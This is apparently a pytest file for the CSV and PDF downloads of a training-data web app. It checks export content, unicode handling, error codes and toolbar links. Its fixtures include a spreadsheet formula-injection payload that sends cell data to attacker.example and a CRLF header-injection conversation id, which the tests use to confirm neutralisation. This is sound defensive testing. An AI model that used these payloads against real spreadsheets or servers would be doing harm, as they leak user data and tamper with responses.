"""The detail's CSV and PDF downloads, on a real database: content, safety, errors and the toolbar links."""

from __future__ import annotations

import csv
import io
import re
import uuid

import pytest
from fastapi.testclient import TestClient
from pypdf import PdfReader
from sqlalchemy import select, update

from tests.helpers import factories as f
from training_data_studio.core.db import Database
from training_data_studio.models import EmotionalContext, ResponseBreakdown, TrainingTurn

API = "/api/train-data/conversations"

# A client message a spreadsheet would run as a formula, and text no Latin-1 font could print.
FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for your refund")'
UNICODE_TEXT = "Zoë’s “budget” — 50 € a week, naïve? Ça va 🙂"
LONG_URL = "https://example.com/" + "really-long-path-segment-" * 16 + "end"
SECOND_INPUT = "-5% on my savings: is that bad?\nAnd what about my 401(k)?"


@pytest.fixture
def exported(database: Database) -> uuid.UUID:
    """A generated conversation of three annotated turns with awkward text, plus its quality metrics."""
    with database.session_scope() as s:
        conversation = f.insert_generated_conversation(
            s,
            conversation_number=7,
            conversation_id="fp_zoe_007",
            persona_type="Jennifer",
            persona_name="Zoë Åberg",
            topic_category="Credit card shame",
            tier_template="shame_to_acceptance",
            generation_status="approved",
            quality_score=4.5,
            turn_texts=[
                (FORMULA, f"I hear you, Zoë. {UNICODE_TEXT}"),
                (SECOND_INPUT, f"A dip is normal. Read {LONG_URL} later."),
                ("@Elena thanks 👨‍👩‍👧 中文 שלום", "You are welcome.\tTake care."),
            ],
            turns=3,
        )
        first_turn = s.execute(
            select(TrainingTurn.id).where(TrainingTurn.conversation_id == conversation, TrainingTurn.turn_number == 1)
        ).scalar_one()
        s.execute(
            update(EmotionalContext)
            .where(EmotionalContext.turn_id == first_turn)
            .values(
                intensity_change=-0.2,
                red_flags=[{"flag": "Hides debt from partner", "implication": "Shame", "handling": "Normalise"}],
            )
        )
        s.execute(
            update(ResponseBreakdown)
            .where(ResponseBreakdown.turn_id == first_turn, ResponseBreakdown.sentence_number == 1)
            .values(word_choice_rationale={"I hear you": "Names the listening before any advice is given."})
        )
        f.insert_quality_metrics(s, conversation, total_turns=3, overall_quality_score=4.5)
    return conversation


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def pdf_text(content: bytes) -> tuple[PdfReader, str]:
    reader = PdfReader(io.BytesIO(content))
    return reader, "\n".join(page.extract_text() for page in reader.pages)


def squeezed(text: str) -> str:
    """Text without any whitespace, so a phrase wrapped over lines in the PDF still matches."""
    return "".join(text.split())


def test_the_csv_has_a_header_and_one_row_per_turn(client: TestClient, exported: uuid.UUID) -> None:
    response = client.get(f"{API}/fp_zoe_007/export.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="fp_zoe_007.csv"'
    assert response.content.startswith(b"\xef\xbb\xbfconversation_id,")  # UTF-8 byte-order mark, for Excel

    rows = csv_rows(response.content)
    assert [row["turn_number"] for row in rows] == ["1", "2", "3"]
    first, second, third = rows
    assert first["conversation_id"] == "fp_zoe_007"
    assert first["conversation_number"] == "7"
    assert first["persona_name"] == "Zoë Åberg"
    assert first["template"] == "shame_to_acceptance"
    assert first["status"] == "approved"
    assert first["conversation_quality_score"] == "4.5"
    assert first["user_intent"] == "seek_reassurance"
    assert first["primary_emotion"] == "worry"
    assert first["intensity"] == "0.6"
    assert first["secondary_emotion"] == "hope"
    assert first["emotional_indicator_types"] == "worry_words"
    assert first["emotional_indicators"] == "not sure; scared"
    assert first["client_needs"] == "clarity"
    assert first["red_flags"] == "Hides debt from partner"
    assert first["primary_strategy"] == "validate_then_explain"
    assert first["secondary_strategies"] == "normalise"
    assert first["techniques"] == "reflect"
    assert first["tactical_choices"] == "ask_question: true"
    assert first["avoid_tactics"] == "jargon"
    assert first["sentences_analysed"] == "2"
    assert first["word_choice_rationales"] == "2"
    assert first["difficulty_level"] == "beginner"
    assert second["red_flags"] == ""  # only the first turn has one
    assert (second["turn_id"], third["turn_id"]) == ("fp_zoe_007_turn2", "fp_zoe_007_turn3")


def test_the_csv_neutralises_formulas_but_keeps_numbers_and_unicode(client: TestClient, exported: uuid.UUID) -> None:
    first, second, third = csv_rows(client.get(f"{API}/fp_zoe_007/export.csv").content)
    assert first["user_input"] == "'" + FORMULA
    assert second["user_input"] == "'" + SECOND_INPUT  # text starting with "-" too, newline kept in the cell
    assert third["user_input"] == "'@Elena thanks 👨‍👩‍👧 中文 שלום"
    assert first["intensity_change"] == "-0.2"  # a number we wrote, not text to guard
    assert first["target_response"] == f"I hear you, Zoë. {UNICODE_TEXT}"
    assert third["target_response"] == "You are welcome.\tTake care."  # a tab inside a cell is harmless


def test_the_csv_by_uuid_equals_the_csv_by_conversation_id(client: TestClient, exported: uuid.UUID) -> None:
    by_uuid = client.get(f"{API}/{exported}/export.csv")
    assert by_uuid.status_code == 200
    assert by_uuid.content == client.get(f"{API}/fp_zoe_007/export.csv").content


def test_the_pdf_report_reads_the_whole_conversation(client: TestClient, exported: uuid.UUID) -> None:
    response = client.get(f"{API}/fp_zoe_007/export.pdf")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["content-disposition"] == 'attachment; filename="fp_zoe_007.pdf"'
    assert response.content.startswith(b"%PDF-")

    reader, text = pdf_text(response.content)
    flat = squeezed(text)
    assert reader.metadata is not None
    assert reader.metadata.title == "Conversation #7 · fp_zoe_007"
    assert "Conversation #7 · fp_zoe_007" in text
    assert "Zoë Åberg (Jennifer)" in text
    for phrase in (FORMULA, SECOND_INPUT, f"I hear you, Zoë. {UNICODE_TEXT.replace('🙂', '')}", LONG_URL):
        assert squeezed(phrase) in flat, phrase
    assert squeezed("“I hear you” — Names the listening before any advice is given.") in flat
    assert "[slightly smiling face]" in text  # the one character the font lacks, named instead of dropped
    for heading in ("Emotional context", "Response strategy", "Sentence breakdown", "Quality metrics"):
        assert heading in text
    assert "Hides debt from partner" in text
    pages = len(reader.pages)
    assert pages > 1
    for number, page in enumerate(reader.pages, start=1):
        assert f"Page {number} of {pages}" in page.extract_text()


def test_the_pdf_by_uuid_is_the_same_report(client: TestClient, exported: uuid.UUID) -> None:
    _, by_uuid = pdf_text(client.get(f"{API}/{exported}/export.pdf").content)
    _, by_id = pdf_text(client.get(f"{API}/fp_zoe_007/export.pdf").content)
    assert by_uuid == by_id


def test_a_conversation_without_annotations_still_exports(client: TestClient, database: Database) -> None:
    with database.session_scope() as s:
        conversation = f.insert_conversation(s, conversation_id="bare_001", generation_status="generated")
        f.insert_turn(s, conversation, 1, annotations=False, user_input="Just a question.")
    rows = csv_rows(client.get(f"{API}/bare_001/export.csv").content)
    assert [(row["user_input"], row["primary_emotion"], row["sentences_analysed"]) for row in rows] == [
        ("Just a question.", "", "0")
    ]
    _, text = pdf_text(client.get(f"{API}/bare_001/export.pdf").content)
    assert "No emotional context recorded for this turn." in text
    assert "No computed quality metrics yet" in text


def test_a_download_name_keeps_only_safe_characters(client: TestClient, database: Database) -> None:
    # Lookups by conversation_id accept safe ids only; a row with any other id is still reachable by its uuid.
    with database.session_scope() as s:
        row = f.insert_generated_conversation(s, conversation_id='odd "id";\r\nX-Evil: 1', turns=1)
    response = client.get(f"{API}/{row}/export.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == 'attachment; filename="odd_id_X-Evil_1.csv"'
    assert "x-evil" not in response.headers


@pytest.mark.parametrize("extension", ["csv", "pdf"])
def test_an_unknown_conversation_is_404(client: TestClient, extension: str) -> None:
    for ident in ("no_such_conversation", str(uuid.uuid4()), "x" * 500):
        response = client.get(f"{API}/{ident}/export.{extension}")
        assert response.status_code == 404, response.text
        assert response.json()["error"]["code"] == "not_found"


@pytest.mark.parametrize("extension", ["csv", "pdf"])
def test_a_conversation_without_turns_is_409_like_the_json_export(
    client: TestClient, database: Database, extension: str
) -> None:
    with database.session_scope() as s:
        f.insert_conversation(s, conversation_id="planned_001")
    response = client.get(f"{API}/planned_001/export.{extension}")
    assert response.status_code == 409, response.text
    error = response.json()["error"]
    assert error["code"] == "conflict"
    assert "planned and has no turns yet" in error["message"]
    assert client.get(f"{API}/planned_001/export").status_code == 409  # the JSON export agrees


def test_the_detail_toolbar_offers_the_downloads_only_when_there_is_something(
    client: TestClient, database: Database, exported: uuid.UUID
) -> None:
    with database.session_scope() as s:
        f.insert_conversation(s, conversation_id="planned_001")
    html = client.get("/conversations/fp_zoe_007").text
    for extension in ("csv", "pdf"):
        assert f'href="/api/train-data/conversations/fp_zoe_007/export.{extension}" download="">' in html
    assert 'href="/api/train-data/conversations/fp_zoe_007/export" download="fp_zoe_007.json">' in html
    planned = client.get("/conversations/planned_001").text
    assert "planned_001/export" not in planned
    for label in ("JSON", "CSV", "PDF"):
        assert re.search(rf"<button[^>]*disabled[^>]*>Export {label}</button>", planned)
